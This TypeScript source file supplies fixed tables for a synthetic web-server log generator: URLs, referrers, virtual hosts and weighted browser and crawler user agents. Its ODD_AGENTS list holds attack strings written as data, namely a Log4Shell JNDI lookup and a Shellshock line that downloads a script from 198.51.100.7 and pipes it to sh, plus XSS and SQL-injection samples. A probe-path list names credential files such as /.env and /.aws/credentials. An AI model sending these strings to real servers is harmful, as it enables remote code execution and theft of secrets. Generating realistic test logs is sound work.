/**
 * Static tables behind the log generator: the site's URLs, user agents, referrers, vhosts.
 * Everything here is fixed (no randomness); the generator samples from it.
 */

export type UrlKind = 'page' | 'static' | 'api' | 'probe';

export interface SiteUrl {
  readonly path: string;
  readonly query: string;
  readonly kind: UrlKind;
  /** Body size in bytes for a 200. */
  readonly size: number;
}

const STATIC_TOP: ReadonlyArray<readonly [string, string, number]> = [
  ['/static/css/main.css', '', 48_213],
  ['/static/js/app.js', 'v=3', 183_904],
  ['/', '', 0],
  ['/static/js/vendor.js', '', 412_335],
  ['/favicon.ico', '', 5_430],
  ['/static/img/logo.svg', '', 3_112],
  ['/blog/', '', 0],
  ['/static/fonts/inter-var.woff2', '', 98_780],
  ['/login', '', 0],
  ['/static/js/analytics.js', 'v=3', 22_410],
  ['/products/', '', 0],
  ['/static/css/print.css', '', 2_410],
  ['/about', '', 0],
  ['/robots.txt', '', 212],
  ['/static/img/hero.webp', '', 143_220],
  ['/contact', '', 0],
  ['/sitemap.xml', '', 18_330],
  ['/static/img/icons.svg', '', 12_404],
  ['/pricing', '', 0],
  ['/apple-touch-icon.png', '', 7_981],
  ['/docs/', '', 0],
  ['/static/js/search.js', 'v=3', 8_120],
  ['/feed.xml', '', 41_002],
];

const CATEGORIES = ['shoes', 'bags', 'jackets', 'hats', 'gloves', 'scarves', 'watches', 'belts', 'socks', 'shirts', 'sale', 'new'];

const BLOG_WORDS = ['gearman', 'logs', 'apache', 'nginx', 'scaling', 'queues', 'workers', 'analytics', 'caching', 'tls', 'http2', 'release', 'notes', 'tuning', 'postgres', 'redis', 'monitoring', 'backups', 'deploys', 'metrics'];

const API_PATHS = ['/api/v1/items', '/api/v1/cart', '/api/v1/session', '/api/v1/search', '/api/v1/recommendations', '/api/v1/stock', '/api/v1/prices', '/api/v1/events'];

export const PROBE_PATHS: readonly string[] = [
  '/wp-login.php',
  '/.env',
  '/xmlrpc.php',
  '/.git/config',
  '/phpmyadmin/index.php',
  '/wp-admin/setup-config.php',
  '/admin/config.php',
  '/cgi-bin/luci/;stok=/locale',
  '/boaform/admin/formLogin',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/HNAP1/',
  '/actuator/health',
  '/.aws/credentials',
  '/owa/auth/logon.aspx',
  '/solr/admin/info/system',
  '/server-status',
  '/.DS_Store',
  '/config.json',
  '/api/.env',
  '/wp-content/plugins/revslider/temp/update_extract/revslider/x.php',
];

function hashString(s: string): number {
  let h = 0x811c9dc5;
  for (let i = 0; i < s.length; i++) h = Math.imul(h ^ s.charCodeAt(i), 0x01000193);
  return h >>> 0;
}

/** The site's URLs, most popular first (the generator draws them with a Zipf law). */
export function buildSiteUrls(): SiteUrl[] {
  const out: SiteUrl[] = [];
  const page = (path: string, query = '') => out.push({ path, query, kind: 'page', size: 9_000 + (hashString(path) % 40_000) });
  for (const [path, query, size] of STATIC_TOP) {
    if (size === 0) page(path, query);
    else out.push({ path, query, kind: 'static', size });
  }
  for (const c of CATEGORIES) page(`/category/${c}`);
  for (let i = 0; i < API_PATHS.length; i++) out.push({ path: API_PATHS[i]!, query: i % 2 === 0 ? 'page=1' : '', kind: 'api', size: 600 + (i * 977) % 6000 });
  for (let i = 0; i < 300; i++) {
    const a = BLOG_WORDS[i % BLOG_WORDS.length]!;
    const b = BLOG_WORDS[(i * 7 + 3) % BLOG_WORDS.length]!;
    page(`/blog/${2019 + (i % 8)}/${a}-${b}-${i}`);
    if (i % 3 === 0) out.push({ path: `/static/img/blog/${i}.jpg`, query: '', kind: 'static', size: 40_000 + (i * 7919) % 400_000 });
  }
  for (let i = 0; i < 1000; i++) {
    page(`/products/${1000 + i}`);
    if (i % 2 === 0) out.push({ path: `/static/img/products/${1000 + i}.jpg`, query: '', kind: 'static', size: 20_000 + (i * 104_729) % 300_000 });
  }
  for (let i = 0; i < 60; i++) page(`/docs/${BLOG_WORDS[i % BLOG_WORDS.length]}/${i}`);
  return out;
}

export const KEYWORDS: readonly string[] = [
  'gearman', 'job', 'server', 'log', 'analysis', 'apache', 'access', 'log', 'format', 'combined', 'nginx', 'parser', 'map', 'reduce',
  'cheap', 'running', 'shoes', 'leather', 'bag', 'winter', 'jacket', 'sale', 'discount', 'code', 'how', 'to', 'install', 'configure',
  'queue', 'worker', 'php', 'perl', 'python', 'tutorial', 'example', 'best', 'review', 'price', 'free', 'shipping', 'size', 'guide',
  'return', 'policy', 'near', 'me', 'open', 'source', 'download', 'docs', 'error', 'fix', 'slow', 'fast', 'real', 'time', 'report',
];

/** Search engines: referrer prefix (up to the parameter) and the parameter holding the keyphrase. */
export const SEARCH_ENGINES: ReadonlyArray<readonly [string, number]> = [
  ['https://www.google.com/search?q=', 70],
  ['https://www.bing.com/search?q=', 14],
  ['https://duckduckgo.com/?q=', 7],
  ['https://yandex.ru/search/?text=', 4],
  ['https://www.baidu.com/s?wd=', 2],
  ['https://search.yahoo.com/search?p=', 3],
];

export const OTHER_REFERRERS: readonly string[] = [
  'https://t.co/',
  'https://www.facebook.com/',
  'https://l.facebook.com/',
  'https://www.reddit.com/r/webdev/',
  'https://news.ycombinator.com/',
  'https://www.linkedin.com/',
  'https://github.com/',
  'https://stackoverflow.com/questions/',
  'android-app://com.google.android.gm/',
  'https://mail.google.com/',
];

export interface VHost {
  readonly name: string;
  readonly port: number;
  readonly weight: number;
}

export const VHOSTS: readonly VHost[] = [
  { name: 'www.example.com', port: 443, weight: 70 },
  { name: 'api.example.com', port: 443, weight: 10 },
  { name: 'static.example.com', port: 443, weight: 8 },
  { name: 'example.com', port: 80, weight: 8 },
  { name: 'blog.example.org', port: 443, weight: 4 },
];

export interface AgentEntry {
  readonly ua: string;
  readonly weight: number;
  /** IPv4 prefix (first two or three octets) its clients come from, for crawlers. */
  readonly ipPrefix?: string;
}

/** A few hundred user agents with popularity weights: browsers, crawlers and tools. */
export function buildUserAgents(): AgentEntry[] {
  const out: AgentEntry[] = [];
  const family = (weight: number, uas: string[]) => uas.forEach((ua, i) => out.push({ ua, weight: weight * Math.pow(0.78, i) }));
  const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => to - i);
  const webkit = 'AppleWebKit/537.36 (KHTML, like Gecko)';
  family(30, range(110, 131).map((v) => `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${webkit} Chrome/${v}.0.0.0 Safari/537.36`));
  family(9, range(115, 131).map((v) => `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${webkit} Chrome/${v}.0.0.0 Safari/537.36`));
  family(3, range(118, 131).map((v) => `Mozilla/5.0 (X11; Linux x86_64) ${webkit} Chrome/${v}.0.0.0 Safari/537.36`));
  family(1, range(124, 131).map((v) => `Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) ${webkit} Chrome/${v}.0.0.0 Safari/537.36`));
  const androids = ['K', 'SM-S918B', 'Pixel 7', 'Pixel 8 Pro', 'SM-A546B', 'moto g(60)'];
  family(16, range(120, 131).flatMap((v) => androids.map((d, k) => `Mozilla/5.0 (Linux; Android ${d === 'K' ? 10 : 13 + (k % 2)}; ${d}) ${webkit} Chrome/${v}.0.0.0 Mobile Safari/537.36`)));
  family(3, range(120, 131).map((v) => `Mozilla/5.0 (Linux; Android 14; SM-X710) ${webkit} Chrome/${v}.0.0.0 Safari/537.36`));
  family(2, range(120, 131).map((v) => `Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/${v}.0.6478.54 Mobile/15E148 Safari/604.1`));
  family(5, range(115, 133).map((v) => `Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:${v}.0) Gecko/20100101 Firefox/${v}.0`));
  family(2, range(120, 133).map((v) => `Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:${v}.0) Gecko/20100101 Firefox/${v}.0`));
  family(2, range(120, 131).map((v) => `Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:${v}.0) Gecko/20100101 Firefox/${v}.0`));
  family(1, range(125, 131).map((v) => `Mozilla/5.0 (Android 14; Mobile; rv:${v}.0) Gecko/${v}.0 Firefox/${v}.0`));
  const safari = ['18.2', '18.1', '18.0', '17.6', '17.5', '17.4', '17.1', '16.6'];
  family(5, safari.map((v) => `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${v} Safari/605.1.15`));
  const ios = ['18_2', '18_1', '18_0', '17_6', '17_5', '17_4', '17_3', '17_2', '17_1', '17_0', '16_7', '16_6', '16_5', '15_8', '15_7'];
  family(18, ios.map((v) => `Mozilla/5.0 (iPhone; CPU iPhone OS ${v} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${v.replace('_', '.')} Mobile/15E148 Safari/604.1`));
  family(3, ios.slice(0, 6).map((v) => `Mozilla/5.0 (iPad; CPU OS ${v} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${v.replace('_', '.')} Mobile/15E148 Safari/604.1`));
  family(6, range(115, 131).map((v) => `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${webkit} Chrome/${v}.0.0.0 Safari/537.36 Edg/${v}.0.2420.81`));
  family(1, range(125, 131).map((v) => `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${webkit} Chrome/${v}.0.0.0 Safari/537.36 Edg/${v}.0.2478.51`));
  family(1.5, range(100, 115).map((v) => `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${webkit} Chrome/${v + 14}.0.0.0 Safari/537.36 OPR/${v}.0.0.0`));
  family(2, range(20, 26).map((v) => `Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) ${webkit} SamsungBrowser/${v}.0 Chrome/121.0.0.0 Mobile Safari/537.36`));
  family(0.4, [
    'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko',
    'Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko',
    'Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)',
    'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)',
  ]);
  family(0.6, [
    `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${webkit} Chrome/122.0.0.0 YaBrowser/24.4.0.0 Safari/537.36`,
    `Mozilla/5.0 (Linux; U; Android 10; en-US; RMX2185) ${webkit} Version/4.0 Chrome/100.0.4896.58 UCBrowser/13.4.2.1307 Mobile Safari/537.36`,
    `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${webkit} Chrome/128.0.0.0 Safari/537.36 Vivaldi/6.9.3447.37`,
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/470.0.0.38.109;FBBV/617470932]',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 335.0.3.18.89 (iPhone14,5; iOS 17_5; en_US)',
    `Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36`,
  ]);
  const bot = (ua: string, weight: number, ipPrefix?: string) => out.push(ipPrefix === undefined ? { ua, weight } : { ua, weight, ipPrefix });
  bot('Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 4, '66.249.66');
  bot(`Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) ${webkit} Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)`, 4, '66.249.68');
  bot('Googlebot-Image/1.0', 0.8, '66.249.79');
  bot('Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 2.5, '40.77.167');
  bot('Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)', 1, '5.255.253');
  bot('Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)', 0.6, '116.179.32');
  bot('DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)', 0.4, '20.191.45');
  bot('Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)', 0.5, '17.241.219');
  bot('Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', 1.5, '54.36.148');
  bot('Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)', 1.2, '185.191.171');
  bot('Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)', 0.5);
  bot('Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)', 0.4);
  bot('Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)', 0.5, '114.119.147');
  bot('facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)', 0.6, '173.252.107');
  bot('Twitterbot/1.0', 0.2);
  bot('LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)', 0.1);
  bot('Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)', 0.1);
  bot('Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)', 0.8, '20.171.207');
  bot('Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)', 0.7, '3.15.129');
  bot('CCBot/2.0 (https://commoncrawl.org/faq/)', 0.3);
  bot('Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)', 0.7, '110.249.201');
  bot('Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot) Chrome/119.0.6045.214 Safari/537.36', 0.4);
  bot('Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)', 0.6, '216.144.248');
  bot('Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)', 0.2);
  bot('curl/7.88.1', 0.6);
  bot('curl/8.5.0', 0.4);
  bot('Wget/1.21.3', 0.2);
  bot('python-requests/2.31.0', 0.5);
  bot('python-requests/2.32.3', 0.3);
  bot('Python-urllib/3.11', 0.2);
  bot('Go-http-client/1.1', 0.6);
  bot('Go-http-client/2.0', 0.2);
  bot('Java/17.0.2', 0.1);
  bot('okhttp/4.12.0', 0.3);
  bot('Apache-HttpClient/4.5.14 (Java/17.0.8)', 0.1);
  bot('libwww-perl/6.72', 0.1);
  bot('axios/1.6.2', 0.2);
  bot('node-fetch/1.0 (+https://github.com/bitinn/node-fetch)', 0.1);
  bot('Scrapy/2.11.0 (+https://scrapy.org)', 0.1);
  bot('Mozilla/5.0 zgrab/0.x', 0.3);
  bot('masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 0.1);
  bot('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 0.1);
  bot('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.109 Safari/537.36', 0.2);
  return out;
}

/** Odd but valid user agents: quoting, injections, an empty header. */
export const ODD_AGENTS: readonly string[] = [
  '${jndi:ldap://198.51.100.7:1389/Exploit}',
  '() { :; }; /bin/bash -c "curl http://198.51.100.7/x.sh | sh"',
  'Mozilla/5.0 "quoted" \\backslash\\ agent',
  '<script>alert(1)</script>',
  "' OR '1'='1",
];
